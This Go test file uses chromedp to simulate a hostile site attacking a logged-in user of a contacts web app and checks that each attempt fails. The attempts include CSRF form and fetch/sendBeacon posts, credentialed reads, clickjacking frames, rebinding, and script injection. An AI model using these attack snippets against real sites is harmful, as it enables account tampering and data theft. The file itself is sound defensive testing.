package web_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	contactsv1 "contactsd/api/contacts/v1"
)

// testAttacks has a victim who is logged in visit a hostile site, which is on
// another port of this machine: for browsers that is the same site, which is the
// most that any site has.
func testAttacks(t *testing.T, w world) {
	ana := w.person(t, "Ana")
	ana.opens()
	page := ana.origin()
	got := make(chan string, 100) // cookies that the site was sent
	var site string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for _, c := range r.Cookies() {
			got <- c.Value
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Evil</title><h1>evil</h1><form method=post action=%q><input name=name value=Mallory></form><a href=%q>go</a>`, page+"/profile", page+"/settings")
	}))
	t.Cleanup(evil.Close)
	site = evil.URL
	name := func() string {
		t.Helper()
		p, err := ana.Device.Profile().GetProfile(t.Context(), &contactsv1.GetProfileRequest{})
		if err != nil {
			t.Fatal(err)
		}
		return p.Profile.Name
	}
	visit := func() {
		t.Helper()
		ana.does(chromedp.Navigate(site), chromedp.WaitVisible("h1"))
	}
	runs := func(script string) string {
		t.Helper()
		script = strings.ReplaceAll(script, "PAGE", strconv.Quote(page))
		return gets(ana, chromedp.Evaluate[string](`(async () => {`+script+`})().then(String, e => 'error ' + e.name)`, chromedp.EvalAwaitPromise,
			// Or what a test runs would be allowed what no page is.
			func(p *runtime.EvaluateParams) { p.AllowUnsafeEvalBlockedByCSP = new(false) }))
	}

	visit()
	// A form that submits itself (CSRF).
	ana.does(chromedp.Evaluate[chromedp.Void](`document.forms[0].submit()`))
	ana.sees("body", "refused")
	// The same without a navigation, with every way to leave the Origin out.
	visit()
	for _, script := range []string{
		`const r = await fetch(PAGE + '/profile', {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({name: 'Mallory'})}); return r.type`,
		`return navigator.sendBeacon(PAGE + '/profile', new URLSearchParams({name: 'Mallory'}))`,
		`const r = await fetch(PAGE + '/profile', {method: 'POST', mode: 'no-cors', referrerPolicy: 'no-referrer', credentials: 'include', body: new URLSearchParams({name: 'Mallory'})}); return r.type`,
	} {
		runs(script)
	}
	if n := name(); n != "Ana" {
		t.Errorf("a site gave the device the name %q", n)
	}
	// Reading: the answer of a request, a script, an image, a style.
	for what, script := range map[string]string{
		"a request":           `return (await fetch(PAGE + '/list', {credentials: 'include'})).text()`,
		"a request, opaque":   `const r = await fetch(PAGE + '/list', {mode: 'no-cors', credentials: 'include'}); return r.type + (await r.text())`,
		"a script":            `return new Promise(r => { const s = document.createElement('script'); s.src = PAGE + '/static/page.js'; s.onload = () => r('loaded'); s.onerror = () => r('no'); document.head.append(s); })`,
		"a picture":           `return new Promise(r => { const s = new Image(); s.src = PAGE + '/static/icon.svg'; s.onload = () => r('loaded'); s.onerror = () => r('no'); })`,
		"a stream":            `return new Promise(r => { const s = new EventSource(PAGE + '/live', {withCredentials: true}); s.onopen = () => r('opened'); s.onerror = () => r('no'); })`,
		"a window it opens":   `const w = open(PAGE + '/'); await new Promise(r => setTimeout(r, 300)); try { return w ? w.document.body.innerText : 'no' } catch { return 'no' }`,
		"the cookie's script": `return document.cookie || 'no'`,
	} {
		if said := runs(script); strings.Contains(said, "Contact") || said == "loaded" || said == "opened" || strings.Contains(said, "<li") {
			t.Errorf("a site got %s: %.200s", what, said)
		}
	}
	// Frames (clickjacking).
	runs(`for (const tag of ['iframe', 'embed', 'object']) { const f = document.createElement(tag); f[tag === 'object' ? 'data' : 'src'] = PAGE + '/settings'; document.body.append(f); } await new Promise(r => setTimeout(r, 300)); return ''`)
	for _, f := range gets(ana, chromedp.Evaluate[[]string](`[...Array(frames.length).keys()].map(i => frames[i]).map(f => { try { return f.document.body.innerText } catch { return '' } })`)) {
		if strings.Contains(f, "Settings") {
			t.Errorf("framed: %s", f)
		}
	}
	// A link that leads to the page.
	visit()
	ana.clicks("a")
	ana.sees("body", "refused")

	// Cookies know no ports: the site on another port of the same host does get the
	// cookie when somebody goes there. It is of no use to another user (the test of
	// TestAttackOfAnotherUser), and no script on the page can send it anywhere.
	select {
	case <-got:
	default:
		t.Log("this browser keeps cookies of ports apart")
	}

	// Rebinding: a name of the attacker's that leads to the page.
	port := page[strings.LastIndex(page, ":")+1:]
	ana.does(chromedp.Navigate("http://localhost:" + port + "/"))
	ana.sees("body", "refused")

	// The page itself asks nobody else for anything, and runs nothing that is put
	// into it.
	ana.does(chromedp.Navigate(page + "/"))
	ana.sees(".me", "Ana")
	if asked := gets(ana, chromedp.Evaluate[[]string](`performance.getEntriesByType('resource').map(e => e.name).filter(n => !n.startsWith(location.origin))`)); len(asked) > 0 {
		t.Errorf("the page asks %v", asked)
	}
	for what, script := range map[string]string{
		"an inline script":           `document.body.insertAdjacentHTML('beforeend', '<img src="/x" onerror="window.ran = true">'); const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s); await new Promise(r => setTimeout(r, 100)); return window.ran || 'no'`,
		"a script of elsewhere":      fmt.Sprintf(`return new Promise(r => { const s = document.createElement('script'); s.src = %q; s.onload = () => r('ran'); s.onerror = () => r('no'); document.body.append(s); })`, site),
		"a request elsewhere":        fmt.Sprintf(`return fetch(%q, {mode: 'no-cors'}).then(() => 'sent', () => 'no')`, site),
		"a script of its own making": `const f = document.createElement('form'); f.setAttribute('hx-on:click', 'window.ran = true'); document.body.append(f); htmx.process(f); f.click(); return window.ran || 'no'`,
	} {
		if said := runs(script); said != "no" {
			t.Errorf("the page runs %s: %s", what, said)
		}
	}
	// The login is in no address that the browser remembers.
	entries := gets(ana, chromedp.NavigationEntries())
	for _, e := range entries.Entries {
		if _, secret, _ := strings.Cut(e.URL, "#"); len(secret) > 20 {
			t.Errorf("the history keeps %s", e.URL)
		}
	}
	// A login that was used shows how to get another one.
	login := ana.login()
	ana.does(chromedp.Navigate(login))
	ana.sees(".me", "Ana")
	ana.does(chromedp.Navigate("about:blank"), chromedp.Navigate(login))
	ana.sees("h1", "This way in is over")
	if n := name(); n != "Ana" {
		t.Errorf("the device is called %q", n)
	}
}
